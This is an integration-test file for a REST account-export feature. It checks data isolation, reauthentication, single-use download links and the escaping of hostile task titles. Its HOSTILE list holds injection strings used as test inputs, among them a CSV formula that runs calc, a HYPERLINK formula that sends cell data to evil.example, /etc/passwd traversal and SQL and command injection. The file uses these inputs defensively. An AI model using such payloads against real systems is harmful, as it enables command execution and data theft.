// Exports by REST: what stands in the file, who may fetch it, how often, and for how long.
import { randomUUID } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { execa } from 'execa';
import { expect, test } from 'vitest';
import { exportedTables } from '../../../src/archive/exported-tables.ts';
import { httpWorld } from '../../harness/http-world.ts';
import { PASSWORD, type Session } from '../../harness/http.ts';
import { readByIcalJs } from '../../harness/read-calendar.ts';
import { exportDone, fetchZip, isDone, linkOf, takeExport } from '../../harness/take-export.ts';

const { api, admin } = httpWorld({ worker: 'here' });

const HOUR_MS = 3_600_000;
const inHours = (hours: number) => new Date(Date.now() + hours * HOUR_MS).toISOString();

const newTask = (person: Session, title: string, more: object = {}) =>
  person.expect(201, 'POST', '/v1/tasks', {
    title,
    starts_at: inHours(30),
    duration_minutes: 30,
    force: true,
    ...more,
  });

/** Every name that may stand in a file of ours: constants, and tables by the name that they have in our code. */
const NAMES = [
  'README.txt',
  'tasks.csv',
  'goals.csv',
  'messages.csv',
  'notifications.csv',
  'calendar.ics',
  ...exportedTables().map(({ table }) => `data/${table}.json`),
  'manifest.json',
];

test('no name leads anywhere', () => {
  expect(NAMES.length).toBeGreaterThan(30);
  for (const name of NAMES) expect(name).toMatch(/^(data\/)?[A-Za-z_]+\.(txt|csv|ics|json)$/);
  for (const table of ['users', 'sessions', 'profiles', 'messages', 'tasks', 'goals', 'notification_log'])
    expect(NAMES).toContain(`data/${table}.json`);
});

test('the file holds what is theirs, under names that are always the same, and nothing of a colleague', async () => {
  const [ana, ben] = [await api.register({ name: 'Ana' }), await api.register({ name: 'Ben' })];
  const team = await ana.expect(201, 'POST', '/v1/orgs', { name: 'The team' });
  const { token } = await ana.expect(201, 'POST', `/v1/orgs/${team.id}/invitations`, {
    email: ben.email,
    role: 'member',
  });
  await ben.expect(200, 'POST', '/v1/invitations/acceptance', { token });
  const inTeam = { 'x-org-id': team.id };
  const bens = { title: 'A canary of Ben', starts_at: inHours(40), duration_minutes: 30 };
  await ben.call('POST', '/v1/tasks', bens, inTeam);
  await ana.call('POST', '/v1/tasks', { ...bens, title: 'Of Ana in the team' }, inTeam);
  const { id, starts_at } = await newTask(ana, 'Stretch', { description: 'at home' });
  await ana.expect(200, 'POST', `/v1/tasks/${id}/completion`);

  const entries = await takeExport(ana);
  expect([...entries.keys()]).toEqual(NAMES);
  const tasks = JSON.parse(entries.get('data/tasks.json')!);
  expect(tasks.map(({ title }: { title: string }) => title).toSorted()).toEqual([
    'Of Ana in the team',
    'Stretch',
  ]);
  expect(tasks.find((task: { id: string }) => task.id === id)).toMatchObject({
    description: 'at home',
    starts_at,
    status: 'done',
    user_id: ana.userId,
  });
  expect(JSON.parse(entries.get('data/users.json')!)).toEqual([
    expect.objectContaining({ id: ana.userId, email: ana.email }),
  ]);
  const all = [...entries.values()].join('\n');
  for (const secret of ['canary of Ben', ben.userId, ben.email, '$argon2id', token])
    expect(all).not.toContain(secret);
  const events = readByIcalJs(entries.get('calendar.ics')!);
  expect(events.map(({ title }) => title).toSorted()).toEqual(['Of Ana in the team', '✓ Stretch']);
  expect(entries.get('README.txt')).toContain('users.password_hash');
});

test('who is asked for a fresh proof gives it: a password, or a session of the last minutes', async () => {
  const ana = await api.register();
  const wrong = await ana.call('POST', '/v1/me/exports', { password: 'not my password' });
  expect([wrong.status, wrong.body.code]).toEqual([401, 'BAD_CREDENTIALS']);
  // It was opened a moment ago.
  const { id } = await ana.expect(202, 'POST', '/v1/me/exports');
  await isDone(ana, id);
  await admin.query(`update sessions set created_at = now() - interval '11 minutes' where user_id = $1`, [
    ana.userId,
  ]);
  for (const path of ['/v1/me/exports', `/v1/me/exports/${id}/link`]) {
    const stale = await ana.call('POST', path, {});
    expect([stale.status, stale.body.code]).toEqual([403, 'REAUTHENTICATION_NEEDED']);
  }
  await ana.expect(201, 'POST', `/v1/me/exports/${id}/link`, { password: PASSWORD });
  const scopes = ['tasks:read', 'tasks:write', 'account:read', 'account:write'];
  const { key } = await ana.expect(201, 'POST', '/v1/account/api-keys', { name: 'A machine', scopes });
  const byKey = await api.call('POST', '/v1/me/exports', { token: key, body: { password: PASSWORD } });
  expect([byKey.status, byKey.body.code]).toEqual([403, 'INSUFFICIENT_SCOPE']);
});

const refusal = async (url: string) => {
  const response = await fetch(url);
  const { code } = (await response.json()) as { code: string };
  return [response.status, code, response.headers.get('cache-control')];
};
const GONE = [410, 'EXPORT_LINK_GONE', 'no-store'];

const AHEAD: Record<string, string>[] = [
  { 'sec-purpose': 'prefetch' },
  { 'sec-purpose': 'prefetch;prerender' },
  { purpose: 'prefetch' },
  { 'x-purpose': 'preview' },
  { 'x-moz': 'prefetch' },
];

test('a link is good once, for a quarter of an hour, in its session, and until the next one', async () => {
  const ana = await api.register();
  const id = await exportDone(ana);
  const first = await linkOf(ana, id);
  const head = await fetch(first, { method: 'HEAD' });
  expect([head.status, await head.text()]).toEqual([200, '']);
  for (const ahead of AHEAD) expect((await fetch(first, { headers: ahead })).status).toBe(503);
  const response = await fetch(first);
  const bytes = await response.bytes();
  expect(response.headers.get('cache-control')).toBe('no-store');
  expect(response.headers.get('content-type')).toBe('application/zip');
  const known = await ana.expect(200, 'GET', `/v1/me/exports/${id}`);
  expect(known).toMatchObject({ state: 'done', percent: 100, bytes: bytes.length });
  expect(await refusal(first)).toEqual(GONE);

  const second = await linkOf(ana, id);
  const third = await linkOf(ana, id);
  expect(await refusal(second)).toEqual(GONE);
  await admin.query(
    `update account_exports set link_expires_at = now() - interval '1 second' where id = $1`,
    [id],
  );
  expect(await refusal(third)).toEqual(GONE);

  const fourth = await linkOf(ana, id);
  const racing = await Promise.all(Array.from({ length: 8 }, () => fetch(fourth)));
  expect(racing.map(({ status }) => status).toSorted((a, b) => a - b)).toEqual([
    200,
    ...Array<number>(7).fill(410),
  ]);

  const fifth = await linkOf(ana, id);
  await admin.query('update sessions set revoked_at = now() where user_id = $1', [ana.userId]);
  expect(await refusal(fifth)).toEqual(GONE);
  const never = fifth.replace(/.$/, (last) => (last === 'A' ? 'E' : 'A'));
  expect(await refusal(never)).toEqual(GONE);
  expect(await refusal(`${fifth}x`)).toEqual(GONE);
});

test('one is written at a time, a repeat is the same one, and what is deleted is gone', async () => {
  const ana = await api.register();
  const answers = await Promise.all(
    Array.from({ length: 5 }, () => ana.call('POST', '/v1/me/exports', { password: PASSWORD })),
  );
  const made = answers.filter(({ status }) => status === 202);
  const refused = answers.filter(({ status }) => status !== 202);
  expect(made.length).toBeGreaterThan(0);
  expect(refused.map(({ body }) => body.code)).toEqual(refused.map(() => 'EXPORT_RUNNING'));
  for (const { body } of made) await isDone(ana, body.id);
  const header = { 'idempotency-key': 'the same' };
  const ask = () => ana.call('POST', '/v1/me/exports', { password: PASSWORD }, header);
  const once = await ask();
  await isDone(ana, once.body.id);
  const again = await ask();
  expect([again.status, again.body.id, again.headers.get('idempotent-replayed')]).toEqual([
    202,
    once.body.id,
    'true',
  ]);

  const url = await linkOf(ana, once.body.id);
  await ana.expect(204, 'DELETE', `/v1/me/exports/${once.body.id}`);
  await ana.expect(204, 'DELETE', `/v1/me/exports/${once.body.id}`);
  expect(await refusal(url)).toEqual(GONE);
  expect((await ana.expect(200, 'GET', `/v1/me/exports/${once.body.id}`)).state).toBe('deleted');
  const left = await admin.query('select from account_export_parts where export_id = $1', [once.body.id]);
  expect(left.rowCount).toBe(0);
  const none = await ana.call('POST', `/v1/me/exports/${once.body.id}/link`, { password: PASSWORD });
  expect([none.status, none.body.code]).toEqual([409, 'EXPORT_NOT_THERE']);
  const { exports: listed } = await ana.expect(200, 'GET', '/v1/me/exports?limit=1');
  expect(listed.map(({ id }: { id: string }) => id)).toEqual([once.body.id]);
  const other = await api.register();
  expect((await other.call('GET', `/v1/me/exports/${once.body.id}`)).status).toBe(404);
});

const HOSTILE = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  ' =1',
  '\u00A0=1',
  '\u200B=1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  '=cmd|"/c calc"!A1',

  '=HYPERLINK("http://x.example")',
  '"',
  '""',
  '","',
  "'",
  "'=1",
  'a,b',
  'a;b',
  'a\nb',
  'a\r\nb',
  '\r=1',
  '\n=1',

  '../../etc/passwd',
  '/etc/passwd',
  'C:\\x',
  '..\\..\\x',
  'a/b',
  'NUL',
  'con.txt',
  '.',
  '..',
  '%2e%2e%2f',
  '~/x',

  '</script>',
  '<b>x</b>',
  '{{1}}',
  '${1}',
  '`id`',
  '$(id)',
  "'; drop table tasks;--",
  '%s%n',
  '\\',
  '\\n',
  '\\"',

  '👩‍👩‍👧',
  'é',
  'e\u0301',
  'ß',
  'שלום',
  '\u202Eevil',
  '\uFEFFbom',
  '\u2028line',
  '\u0007bell',
  '漢字',
  'İi',
  '🇩🇪',
  'BEGIN:VEVENT',
  'END:VCALENDAR',
  'x'.repeat(80),
  'a;=HYPERLINK("http://evil.example/?"&A1);b',
  'a;"=1"',
  'a; +1',
  'a;\n=1',
  'a\t@x',
  'a\n-1',
  'a\r\n＝1;\u200B=2',
  '";=1',
  'a;";"=1',
  'a;',
  '0',
  'null',
  'true',
  '1e9',
  '-1e-9',
  '2026-01-01',
];

/** Without the apostrophes, ours and theirs. */
const words = (cell: string) => cell.replaceAll("'", '');
const LENIENT = { relax_quotes: true, relax_column_count: true, record_delimiter: ['\r\n', '\n', '\r'] };

test('sixty hostile titles come back as they were, and no cell is a formula', async () => {
  const ana = await api.register();
  const { organisation } = await ana.expect(200, 'GET', '/v1/auth/me');
  expect(HOSTILE.length).toBeGreaterThanOrEqual(60);
  await admin.query(
    `insert into tasks (id, org_id, user_id, title, description, starts_at, duration_minutes)
     select gen_random_uuid(), $1, $2, t, t, now() + interval '1 day', 10 from unnest($3::text[]) as t`,
    [organisation.id, ana.userId, HOSTILE],
  );
  const entries = await takeExport(ana);
  const tasks: { title: string; description: string }[] = JSON.parse(entries.get('data/tasks.json')!);
  expect(tasks.map(({ title }) => title).toSorted()).toEqual(HOSTILE.toSorted());
  expect(tasks.every(({ title, description }) => title === description)).toBe(true);
  const rows: string[][] = parse(entries.get('tasks.csv')!, { bom: true });
  const cells = rows.slice(1).map(([title]) => title!);
  expect(cells.map(words).toSorted()).toEqual(HOSTILE.map(words).toSorted());
  // Where commas part cells, and where other signs do and our quotes stand anywhere.
  for (const delimiter of [',', ';', '\t']) {
    const read: string[][] = parse(entries.get('tasks.csv')!, { bom: true, delimiter, ...LENIENT });
    for (const cell of read.flat()) expect(cell).not.toMatch(/^["\s\u200B\uFEFF]*[=+\-@＝＋－＠]/);
  }
  expect(readByIcalJs(entries.get('calendar.ics')!)).toHaveLength(HOSTILE.length);
  expect([...entries.keys()]).toEqual(NAMES);
});

test('asked for elsewhere meanwhile, the answer says which one runs and where', async () => {
  const ana = await api.register();
  const team = await ana.expect(201, 'POST', '/v1/orgs', { name: 'The team' });
  const { organisation } = await ana.expect(200, 'GET', '/v1/auth/me');
  const id = randomUUID();
  await admin.query(
    `insert into account_exports (id, org_id, user_id, running_for) values ($1, $2, $3, $3)`,
    [id, team.id, ana.userId],
  );
  const here = await ana.call('POST', '/v1/me/exports', { password: PASSWORD });
  expect(here).toMatchObject({
    status: 409,
    body: { code: 'EXPORT_RUNNING', export_id: id, org_id: team.id },
  });
  const inTeam = { 'x-org-id': team.id };
  expect((await ana.call('DELETE', `/v1/me/exports/${id}`, undefined, inTeam)).status).toBe(204);
  await ana.call('POST', '/v1/me/exports', { password: PASSWORD }, { 'x-org-id': organisation.id });
  const stranger = await api.register();
  expect((await stranger.call('POST', '/v1/me/exports', { password: PASSWORD })).status).toBe(202);
});

const { failed: hasNoPython } = await execa('python3', ['--version'], { reject: false });

// Where there is none the report names it as skipped.
test.skipIf(hasNoPython)('the file is a zip to a reader of another maker (Python)', async () => {
  const ana = await api.register();
  await newTask(ana, 'Stretch');
  const file = join(await mkdtemp(join(tmpdir(), 'flux-export-')), 'flux-export.zip');
  await writeFile(file, await fetchZip(await linkOf(ana, await exportDone(ana))));
  const { stdout } = await execa('python3', ['-c', READ, file]);
  await rm(dirname(file), { recursive: true });
  expect(stdout).toBe(`None ${NAMES.length}`);
});

/** Which entry is broken, and how many there are. */
const READ = 'import sys, zipfile; z = zipfile.ZipFile(sys.argv[1]); print(z.testzip(), len(z.namelist()))';
